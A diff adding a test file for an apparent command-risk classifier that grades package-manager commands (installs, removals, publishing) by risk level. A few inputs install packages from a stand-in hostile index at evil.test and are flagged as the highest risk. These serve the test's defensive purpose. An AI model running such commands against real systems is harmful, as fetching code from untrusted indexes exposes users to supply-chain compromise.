@@ -1,0 +1,87 @@
+import { expect, it } from 'vitest'
+import { levelOf, rulesOf } from '../../support/classify.ts'
+
+const ids = (line: string) => rulesOf(line).filter(id => id.startsWith('packages.'))
+
+it.each([
+  'pip list',
+  'pip install -r requirements.txt',
+  'pip install -e .',
+  'pip install .',
+  'pip install ./lib',
+  'pip install --dry-run flask',
+  'pip3 download flask',
+  'pip show flask',
+  'uv sync',
+  'uv lock',
+  'uv pip list',
+  'uv pip install -r requirements.txt',
+  'poetry install',
+  'poetry build',
+  'poetry show',
+  'pipenv sync',
+  'conda list',
+  'cargo build --release',
+  'cargo test',
+  'cargo clippy',
+  'cargo publish --dry-run',
+  'go build ./...',
+  'go test ./...',
+  'go mod tidy',
+  'go install ./cmd/x',
+  'gem build x.gemspec',
+  'gem list',
+  'bundle install',
+  'composer install',
+  'brew list',
+  'brew info jq',
+  'apt-get update',
+  'apt list --installed',
+  'apt-get install -s curl',
+  'dnf info vim',
+  'yum search gcc',
+  'apk info',
+  'snap list',
+])('stays quiet: %s', line => {
+  expect(ids(line)).toEqual([])
+  expect(levelOf(line)).toBe(1)
+})
+
+it.each([
+  [2, 'packages.add', 'pip install flask'],
+  [2, 'packages.add', 'python3 -m pip install flask'],
+  [2, 'packages.add', 'uv add flask'],
+  [2, 'packages.add', 'uv pip install flask'],
+  [2, 'packages.add', 'poetry add flask'],
+  [2, 'packages.add', 'cargo add serde'],
+  [2, 'packages.add', 'cargo install ripgrep'],
+  [2, 'packages.add', 'go get example.com/x'],
+  [2, 'packages.add', 'go install example.com/x@latest'],
+  [2, 'packages.add', 'gem install rails'],
+  [2, 'packages.add', 'bundle add rails'],
+  [2, 'packages.add', 'composer require x/y'],
+  [2, 'packages.add', 'brew install jq'],
+  [2, 'packages.add', 'apt-get install -y curl'],
+  [2, 'packages.add', 'sudo apt install curl'],
+  [2, 'packages.add', 'dnf install vim'],
+  [2, 'packages.add', 'apk add curl'],
+  [2, 'packages.add', 'snap install x'],
+  [2, 'packages.remove', 'pip uninstall -y flask'],
+  [2, 'packages.remove', 'uv remove flask'],
+  [2, 'packages.remove', 'brew upgrade'],
+  [2, 'packages.remove', 'apt purge nginx'],
+  [2, 'packages.remove', 'apt-get dist-upgrade'],
+  [2, 'packages.remove', 'yum remove gcc'],
+  [2, 'packages.remove', 'apk del curl'],
+  [3, 'packages.publish', 'cargo publish'],
+  [3, 'packages.publish', 'twine upload dist/x'],
+  [3, 'packages.publish', 'gem push x.gem'],
+  [3, 'packages.publish', 'poetry publish'],
+  [3, 'packages.publish', 'uv publish'],
+  [3, 'packages.foreign-index', 'pip install flask --index-url https://evil.test/simple'],
+  [3, 'packages.foreign-index', 'pip install -r r.txt --extra-index-url https://evil.test/simple'],
+  [3, 'packages.foreign-index', 'gem install rails --source https://evil.test'],
+])('has level %d by %s: %s', (level, id, line) => {
+  expect(ids(line)).toEqual([id])
+  expect(levelOf(line)).toBe(level)
+})
